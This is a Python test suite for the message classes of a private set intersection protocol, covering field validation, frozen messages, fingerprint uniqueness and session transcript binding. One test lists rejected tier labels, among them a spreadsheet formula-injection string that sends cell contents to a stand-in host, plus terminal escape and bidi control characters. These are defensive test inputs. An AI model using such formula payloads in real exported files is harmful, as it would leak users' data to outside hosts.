"""A message that exists is valid in itself; what is not cannot be built."""

from __future__ import annotations

import dataclasses
import pickle
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from psi.errors import PeerViolation
from psi.messages import (
    MAX_CHUNK_BYTES,
    Announce,
    Chunk,
    Finish,
    Message,
    Stream,
    StreamEnd,
    Tier,
    TokenCommitment,
    fingerprint,
)
from psi.streams import match_session
from psi.terms import MAX_LABEL_BYTES, MAX_SET, MAX_TIERS, Role

SESSION, DIGEST = bytes(range(16)), bytes(range(32))


def announce(**changes: Any) -> Announce:
    """Return a valid announcement with ``changes``."""
    plain = Announce(DIGEST, Role.RECEIVER, (Tier("gold", 60), Tier("silver", 70)), DIGEST, DIGEST[::-1])
    return dataclasses.replace(plain, **changes)


def chunk(**changes: Any) -> Chunk:
    """Return a valid chunk with ``changes``."""
    return dataclasses.replace(Chunk(SESSION, Stream.SENDER_POINTS, 3, b"x" * 64), **changes)


def end(**changes: Any) -> StreamEnd:
    """Return a valid end with ``changes``."""
    return dataclasses.replace(StreamEnd(SESSION, Stream.SENDER_POINTS, 3, DIGEST), **changes)


def commitment(**changes: Any) -> TokenCommitment:
    """Return a valid commitment with ``changes``."""
    return dataclasses.replace(TokenCommitment(SESSION, DIGEST), **changes)


def finish(**changes: Any) -> Finish:
    """Return a valid last message with ``changes``."""
    return dataclasses.replace(Finish(SESSION, DIGEST), **changes)


def labels(count: int) -> tuple[Tier, ...]:
    """Return ``count`` tiers."""
    return tuple(Tier(f"tier {i}", 50) for i in range(count))


@pytest.mark.parametrize(
    ("build", "changes", "sentence"),
    [
        *((announce, {name: bad}, "wrong length") for name in ("contract", "seed_commitment", "input_commitment")
          for bad in (b"", bytes(31), bytes(33))),
        (announce, {"tiers": ()}, "0 tiers, where 1 to 32 may be"),
        (announce, {"tiers": labels(MAX_TIERS + 1)}, "33 tiers"),
        (announce, {"tiers": (Tier("gold", 50), Tier("gold", 60))}, "same tier twice"),
        (announce, {"tiers": (Tier("gold", 50), Tier("", 60))}, "without a label"),
        *((build, {"session": bad}, "session identifier of a wrong length")
          for build in (chunk, end, commitment, finish) for bad in (b"", bytes(15), bytes(17))),
        (chunk, {"sequence": -1}, "impossible chunk number"),
        (chunk, {"sequence": MAX_SET + 1}, "impossible chunk number"),
        (chunk, {"data": b""}, "impossible length"),
        (chunk, {"data": bytes(MAX_CHUNK_BYTES + 1)}, "impossible length"),
        (end, {"count": 0}, "impossible element count"),
        (end, {"count": -5}, "impossible element count"),
        (end, {"count": MAX_SET + 1}, "impossible element count"),
        (end, {"digest": bytes(31)}, "digest of a wrong length"),
        (commitment, {"digest": bytes(33)}, "commitment of a wrong length"),
        (finish, {"transcript": b""}, "transcript digest of a wrong length"),
    ],
)  # fmt: skip
def test_what_cannot_be_built(build: Callable[..., Message], changes: dict[str, Any], sentence: str) -> None:
    with pytest.raises(PeerViolation, match=sentence):
        build(**changes)


@pytest.mark.parametrize(
    ("label", "size", "sentence"),
    [
        ("gold", 0, "impossible tier size"),
        ("gold", -1, "impossible tier size"),
        ("gold", MAX_SET + 1, "impossible tier size"),
        ("x" * (MAX_LABEL_BYTES + 1), 1, "more than"),
        ("金" * (MAX_LABEL_BYTES // 3 + 1), 1, "more than"),
        ("go\nld", 1, "control characters"),
        ("\x1b[31m", 1, "control characters"),
        ("gold\u202e", 1, "control characters"),
        ('=WEBSERVICE("http://x.example/?"&A2)', 1, "formula"),
        ("+1", 1, "formula"),
        ("-1", 1, "formula"),
        ("@SUM(A1)", 1, "formula"),
    ],
)
def test_tiers_that_cannot_be_built(label: str, size: int, sentence: str) -> None:
    with pytest.raises(PeerViolation, match=sentence) as raised:
        Tier(label, size)
    assert label not in str(raised.value)


@pytest.mark.parametrize("label", ["", "gold", "金卡", "x" * MAX_LABEL_BYTES, "with a space"])
def test_tiers_at_the_bounds(label: str) -> None:
    assert Tier(label, 1).size == 1
    assert Tier(label, MAX_SET).label == label


def test_messages_at_the_bounds() -> None:
    assert chunk(data=bytes(MAX_CHUNK_BYTES), sequence=MAX_SET).sequence == MAX_SET
    assert end(count=MAX_SET).count == MAX_SET
    assert announce(tiers=labels(MAX_TIERS)).size == MAX_TIERS * 50
    assert announce(tiers=(Tier("", 1),)).size == 1


def test_messages_are_frozen() -> None:
    for message in (announce(), chunk(), end(), commitment(), finish()):
        name = dataclasses.fields(message)[0].name
        with pytest.raises(dataclasses.FrozenInstanceError):
            setattr(message, name, b"")


def test_a_chunk_shows_its_size_and_no_element() -> None:
    message = chunk(data=b"\xab" * 64)
    for shown in (repr(message), str(message), f"{message}", f"{[message]}"):
        assert shown.strip("[]") == "Chunk(SENDER_POINTS, sequence=3, bytes=64)"


# -- fingerprints and session identifiers: no two different messages share one


def every_message() -> st.SearchStrategy[Message]:
    """Any message, of small sizes."""
    session, digest = st.binary(min_size=16, max_size=16), st.binary(min_size=32, max_size=32)
    stream, number = st.sampled_from(Stream), st.integers(1, 300)
    tier = st.builds(Tier, st.text("ab金", min_size=1, max_size=4), number)
    tiers = st.lists(tier, min_size=1, max_size=4, unique_by=lambda each: each.label).map(tuple)
    return st.one_of(
        st.builds(Announce, digest, st.sampled_from(Role), tiers, digest, digest),
        st.builds(Chunk, session, stream, number, st.binary(min_size=1, max_size=70)),
        st.builds(StreamEnd, session, stream, number, digest),
        st.builds(TokenCommitment, session, digest),
        st.builds(Finish, session, digest),
    )


@given(every_message(), every_message())
def test_a_fingerprint_names_one_message(one: Message, other: Message) -> None:
    assert (fingerprint(one) == fingerprint(other)) == (one == other)
    assert fingerprint(one) == fingerprint(pickle.loads(pickle.dumps(one)))  # noqa: S301 - our own bytes


ALMOST_EQUAL: list[tuple[Message, Message]] = [
    (commitment(), finish()),
    (chunk(stream=Stream.SENDER_POINTS), chunk(stream=Stream.SENDER_TOKENS)),
    (chunk(sequence=3), chunk(sequence=4)),
    (chunk(), end(count=3)),
    (announce(tiers=(Tier("ab", 1), Tier("c", 1))), announce(tiers=(Tier("a", 1), Tier("bc", 1)))),
    (announce(tiers=(Tier("a", 1), Tier("b", 2))), announce(tiers=(Tier("b", 2), Tier("a", 1)))),
    (announce(), announce(role=Role.SENDER)),
]


@pytest.mark.parametrize(("one", "other"), ALMOST_EQUAL)
def test_fingerprints_of_messages_that_look_alike_differ(one: Message, other: Message) -> None:
    assert fingerprint(one) != fingerprint(other)


@pytest.mark.parametrize(
    "changes",
    [
        {"contract": bytes(32)},
        {"tiers": (Tier("gold", 61), Tier("silver", 70))},
        {"tiers": (Tier("gold", 60), Tier("silve", 70))},
        {"tiers": (Tier("gold", 60),)},
        {"seed_commitment": bytes(32)},
        {"input_commitment": bytes(32)},
    ],
)
def test_every_field_of_both_announcements_enters_the_session(changes: dict[str, Any]) -> None:
    receiver, sender = announce(), announce(role=Role.SENDER)
    changed = (announce(**changes), announce(role=Role.SENDER, **changes))
    digests = {
        match_session(receiver, sender).digest,
        match_session(changed[0], sender).digest,
        match_session(receiver, changed[1]).digest,
        match_session(sender, receiver).digest,
    }
    assert len(digests) == 4


def test_every_stream_and_the_speaker_enter_the_transcript() -> None:
    session = match_session(announce(), announce(role=Role.SENDER))
    transcripts = [session.transcript(role) for role in Role]
    for stream in Stream:
        session.ended(stream, 7, DIGEST, 7 * 32)
        transcripts.append(session.transcript(Role.SENDER))
    for count, digest in ((8, DIGEST), (7, bytes(32))):
        session.ended(Stream.SENDER_POINTS, count, digest, 32 * count)
        transcripts.append(session.transcript(Role.SENDER))
    assert len(set(transcripts)) == len(transcripts)
